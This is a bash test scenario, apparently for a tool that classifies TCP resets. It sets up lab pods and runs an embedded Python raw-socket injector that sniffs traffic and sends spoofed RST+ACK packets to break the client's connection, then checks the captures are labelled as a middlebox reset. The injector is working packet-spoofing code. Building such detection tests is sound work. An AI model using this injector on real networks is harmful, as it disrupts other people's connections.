#!/usr/bin/env bash
# A forged TCP reset (an on-path injector, as in Weaver, Sommer, Paxson, NDSS 2009). Client and
# server pods on one node bridge, no NAT. The server streams a line every 0.2 s (server.py stream).
# In the node namespace a raw-socket injector (python3, IPv4+TCP built by hand) watches the
# server's segments on vethserver; after "stream line 3" it sends the client three RST+ACKs that
# claim to come from 10.244.0.3:8080: seq = the client's rcv.nxt, then +1460 and +2920 (an
# injector spraying the window), TTL 61 (the server's packets arrive with 64), random IP IDs (the
# server's are sequential), no TCP timestamps (the server's segments all carry them). The client's
# socket dies on the first one; the server, which never reset anything, sends its next line
# (seq = the RST's seq) and is answered by the client kernel's own bare RST.
set -euo pipefail
. "$(dirname "$0")/lib.sh"
lab_init injected
node_create node 10.244.0 1
pod_create node client 10.244.0.2
pod_create node server 10.244.0.3
server server 8080 stream
cap_start client eth0 "$OUT/client-eth0.pcap"
cap_start node any "$OUT/node-any.pcap"
INJECTOR="$(cat <<'PYEOF'
import random, socket, struct
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
SRV, CLI = socket.inet_aton("10.244.0.3"), socket.inet_aton("10.244.0.2")
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: a bridge port's
# frames reach only "all protocols" taps (the bridge takes them before per-protocol handlers)
sniff.bind(("vethserver", 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)   # IP_HDRINCL implied
while True:
    f, _ = sniff.recvfrom(65535)
    if f[12:14] != b"\x08\x00":
        continue
    ip = f[14:]
    ihl = (ip[0] & 15) * 4
    if ip[9] != 6 or ip[12:16] != SRV or ip[16:20] != CLI:
        continue
    tcp = ip[ihl:]
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    payload = ip[ihl + (tcp[12] >> 4) * 4:struct.unpack("!H", ip[2:4])[0]]
    if sport != 8080 or b"stream line 3" not in payload:
        continue
    nxt = (seq + len(payload)) & 0xffffffff
    for k in range(3):
        s = (nxt + 1460 * k) & 0xffffffff
        th = struct.pack("!HHIIBBHHH", 8080, dport, s, ack, 5 << 4, 0x14, 0, 0, 0)
        th = th[:16] + struct.pack("!H", csum(SRV + CLI + struct.pack("!BBH", 0, 6, 20) + th)) + th[18:]
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.randrange(1, 65536), 0x4000, 61, 6, 0, SRV, CLI)
        iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
        raw.sendto(iph + th, ("10.244.0.2", 0))
    print("injector: 3 RSTs sent, first seq %d ack %d" % (nxt, ack), flush=True)
    break
PYEOF
)"
bg ip netns exec "$(ns node)" "$PY" -u -c "$INJECTOR"
sleep 0.5
client client 10.244.0.3 8080 stream 40081
cap_stop 1
cap_check "$OUT"/*.pcap
f='[{"rule":"injected-reset","client":"10.244.0.2:40081","server":"10.244.0.3:8080","backend":null,"resetBy":"middlebox","count":1}]'
expect "$OUT/client-eth0.pcap" "$f"
expect "$OUT/node-any.pcap" "$f"
